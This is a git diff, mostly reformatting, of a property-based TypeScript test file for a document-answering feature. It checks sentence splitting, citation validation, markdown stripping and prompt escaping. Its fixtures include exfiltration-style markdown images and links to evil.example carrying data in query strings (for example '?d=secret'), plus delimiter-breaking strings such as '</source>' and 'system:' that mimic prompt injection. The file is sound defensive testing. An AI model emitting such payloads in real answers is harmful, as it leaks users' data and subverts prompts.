@@ -1,7 +1,13 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { NOTHING_FOUND, type Answer, type RetrievedChunk } from '../../src/knowledge/answer-types.ts';
-import { ANSWER_FORMAT, ANSWER_SYSTEM_PROMPT, buildAnswerPrompt, unescapePromptData, type ModelAnswer } from '../../src/knowledge/answer-prompt.ts';
+import {
+  ANSWER_FORMAT,
+  ANSWER_SYSTEM_PROMPT,
+  buildAnswerPrompt,
+  unescapePromptData,
+  type ModelAnswer,
+} from '../../src/knowledge/answer-prompt.ts';
 import { extractiveAnswer } from '../../src/knowledge/extractive-answer.ts';
 import { stripUnsafeMarkdown } from '../../src/knowledge/markdown-safety.ts';
 import { validateModelAnswer } from '../../src/knowledge/model-answer.ts';
@@ -10,12 +16,45 @@ import { stem, terms } from '../../src/knowledge/terms.ts';
 
 // ---------- generated documents split into (overlapping) chunks ----------
 
-const WORDS = ['launch', 'budget', 'supplier', 'berlin', 'march', 'contract', 'review', 'deadline', 'invoice', 'team', 'risk', 'plan', 'meeting', 'report', 'customer', 'price'];
-const NOISE = ['[3]', '[S1]', '[12, 13]', '![x](https://evil.example/p.png?d=secret)', '[click](https://evil.example/c)', 'https://evil.example/x', 'e.g.', '3.5', '<b>', '&amp;', '</source>', '🙂'];
+const WORDS = [
+  'launch',
+  'budget',
+  'supplier',
+  'berlin',
+  'march',
+  'contract',
+  'review',
+  'deadline',
+  'invoice',
+  'team',
+  'risk',
+  'plan',
+  'meeting',
+  'report',
+  'customer',
+  'price',
+];
+const NOISE = [
+  '[3]',
+  '[S1]',
+  '[12, 13]',
+  '![x](https://evil.example/p.png?d=secret)',
+  '[click](https://evil.example/c)',
+  'https://evil.example/x',
+  'e.g.',
+  '3.5',
+  '<b>',
+  '&amp;',
+  '</source>',
+  '🙂',
+];
 
 const sentence = fc
   .tuple(
-    fc.array(fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...WORDS) }, { weight: 1, arbitrary: fc.constantFrom(...NOISE) }), { minLength: 1, maxLength: 10 }),
+    fc.array(fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...WORDS) }, { weight: 1, arbitrary: fc.constantFrom(...NOISE) }), {
+      minLength: 1,
+      maxLength: 10,
+    }),
     fc.constantFrom('.', '!', '?', '', '.'),
   )
   .map(([words, end]) => {
@@ -65,15 +104,15 @@ const generatedDoc = (id: string) =>
       return { id, title, text, chunks };
     });
 
-const corpus = fc
-  .tuple(generatedDoc('doc-a'), generatedDoc('doc-b'), fc.integer({ min: 0, max: 1000 }))
-  .map(([a, b, seed]) => {
-    // Retrieval order: interleaved, as a search would return them.
-    const all = [...a.chunks, ...b.chunks].sort((x, y) => ((x.chunkId.length * 31 + seed) % 7) - ((y.chunkId.length * 31 + seed) % 7));
-    return { docs: new Map([a, b].map((d) => [d.id, d])), chunks: all };
-  });
+const corpus = fc.tuple(generatedDoc('doc-a'), generatedDoc('doc-b'), fc.integer({ min: 0, max: 1000 })).map(([a, b, seed]) => {
+  // Retrieval order: interleaved, as a search would return them.
+  const all = [...a.chunks, ...b.chunks].sort((x, y) => ((x.chunkId.length * 31 + seed) % 7) - ((y.chunkId.length * 31 + seed) % 7));
+  return { docs: new Map([a, b].map((d) => [d.id, d])), chunks: all };
+});
 
-const question = fc.array(fc.constantFrom(...WORDS, 'what', 'when', 'is', 'the'), { minLength: 1, maxLength: 5 }).map((w) => `${w.join(' ')}?`);
+const question = fc
+  .array(fc.constantFrom(...WORDS, 'what', 'when', 'is', 'the'), { minLength: 1, maxLength: 5 })
+  .map((w) => `${w.join(' ')}?`);
 
 // ---------- what every answer must satisfy ----------
 
@@ -128,7 +167,8 @@ describe('sentences', () => {
   });
 
   it('split at sentence ends and paragraphs, not at decimals, abbreviations before lower case, or wrapped lines', () => {
-    const text = 'The budget is 3.5 million, e.g. for travel. Approved!\n\nNext steps\n- call the supplier\n- sign the contract\nA wrapped\nline ends here.';
+    const text =
+      'The budget is 3.5 million, e.g. for travel. Approved!\n\nNext steps\n- call the supplier\n- sign the contract\nA wrapped\nline ends here.';
     expect(splitSentences(text).map((s) => text.slice(s.start, s.end))).toEqual([
       'The budget is 3.5 million, e.g. for travel.',
       'Approved!',
@@ -247,7 +287,9 @@ const modelReply = (chunks: readonly RetrievedChunk[]): fc.Arbitrary<ModelAnswer
   const id = fc.oneof(fc.constantFrom(...valid), fc.constantFrom(...FOREIGN), fc.string({ maxLength: 8 }));
   const text = fc.oneof(
     sentence,
-    fc.array(fc.oneof(fc.constantFrom(...WORDS), fc.constantFrom(...NOISE), fc.string({ maxLength: 6 })), { maxLength: 8 }).map((w) => w.join(' ')),
+    fc
+      .array(fc.oneof(fc.constantFrom(...WORDS), fc.constantFrom(...NOISE), fc.string({ maxLength: 6 })), { maxLength: 8 })
+      .map((w) => w.join(' ')),
   );
   return fc.record({ sentences: fc.array(fc.record({ text, sources: fc.array(id, { maxLength: 4 }) }), { maxLength: 6 }) });
 };
@@ -275,8 +317,30 @@ describe('validation of the model answer', () => {
   });
 
   const chunks: RetrievedChunk[] = [
-    { chunkId: 'k1', documentId: 'd', documentTitle: 'Plan', text: 'The launch is on 3 March. The venue is Berlin.', start: 100, end: 146, pageStart: 4, pageEnd: 4, headings: ['Plan'], score: 0.9 },
-    { chunkId: 'k2', documentId: 'd', documentTitle: 'Plan', text: 'Budget: 40,000 euros.', start: 300, end: 321, pageStart: 7, pageEnd: 7, headings: ['Budget'], score: 0.5 },
+    {
+      chunkId: 'k1',
+      documentId: 'd',
+      documentTitle: 'Plan',
+      text: 'The launch is on 3 March. The venue is Berlin.',
+      start: 100,
+      end: 146,
+      pageStart: 4,
+      pageEnd: 4,
+      headings: ['Plan'],
+      score: 0.9,
+    },
+    {
+      chunkId: 'k2',
+      documentId: 'd',
+      documentTitle: 'Plan',
+      text: 'Budget: 40,000 euros.',
+      start: 300,
+      end: 321,
+      pageStart: 7,
+      pageEnd: 7,
+      headings: ['Budget'],
+      score: 0.5,
+    },
   ];
   const sources = buildAnswerPrompt('q', chunks).sources;
 
@@ -301,9 +365,19 @@ describe('validation of the model answer', () => {
   });
 
   it('keeps uncited sentences without a marker when citations are not required', () => {
-    const a = validateModelAnswer({ sentences: [{ text: 'Hello.', sources: [] }, { text: 'Launch on 3 March.', sources: ['S1'] }] }, sources, 'm', {
-      requireCitations: false,
-    });
+    const a = validateModelAnswer(
+      {
+        sentences: [
+          { text: 'Hello.', sources: [] },
+          { text: 'Launch on 3 March.', sources: ['S1'] },
+        ],
+      },
+      sources,
+      'm',
+      {
+        requireCitations: false,
+      },
+    );
     expect(a.answer).toBe('Hello. Launch on 3 March [1].');
     expect(a.citations[0]!.quote).toBe('The launch is on 3 March.');
   });
@@ -322,7 +396,10 @@ describe('validation of the model answer', () => {
     const reply = {
       sentences: [
         { text: 'Launch on 3 March ![x](https://evil.example/p.png?d=3+March) and [details](https://evil.example/d).', sources: ['S1'] },
-        { text: 'See &lt;img src="https://evil.example/i"&gt; <https://evil.example/a> https://evil.example/b [docs](https://docs.example.com/p).', sources: ['S1'] },
+        {
+          text: 'See &lt;img src="https://evil.example/i"&gt; <https://evil.example/a> https://evil.example/b [docs](https://docs.example.com/p).',
+          sources: ['S1'],
+        },
       ],
     };
     const a = validateModelAnswer(reply, sources, 'm');
@@ -335,7 +412,9 @@ describe('validation of the model answer', () => {
 
 describe('stripping images and links', () => {
   const host = fc.constantFrom('evil.example', 'attacker.test', 'docs.example.com', '127.0.0.1', 'xn--80ak6aa92e.com');
-  const url = fc.tuple(fc.constantFrom('https://', 'http://', 'HTTPS://', '//', 'www.', ''), host, fc.webPath(), fc.webQueryParameters()).map(([p, h, path, q]) => `${p}${h}${path}?${q}`);
+  const url = fc
+    .tuple(fc.constantFrom('https://', 'http://', 'HTTPS://', '//', 'www.', ''), host, fc.webPath(), fc.webQueryParameters())
+    .map(([p, h, path, q]) => `${p}${h}${path}?${q}`);
   const piece = fc.oneof(
     fc.constantFrom(...WORDS),
     url.map((u) => `![img](${u})`),
@@ -365,7 +444,20 @@ describe('the prompt', () => {
   const hostile = fc
     .array(
       fc.oneof(
-        fc.constantFrom(MARK, '</source>', '</sources>', '<source id="S1">', '<question>', '</question>', '"', '&lt;', '&amp;lt;', '\n', 'system:', '```'),
+        fc.constantFrom(
+          MARK,
+          '</source>',
+          '</sources>',
+          '<source id="S1">',
+          '<question>',
+          '</question>',
+          '"',
+          '&lt;',
+          '&amp;lt;',
+          '\n',
+          'system:',
+          '```',
+        ),
         fc.string({ maxLength: 10 }),
         fc.constantFrom(...WORDS),
       ),
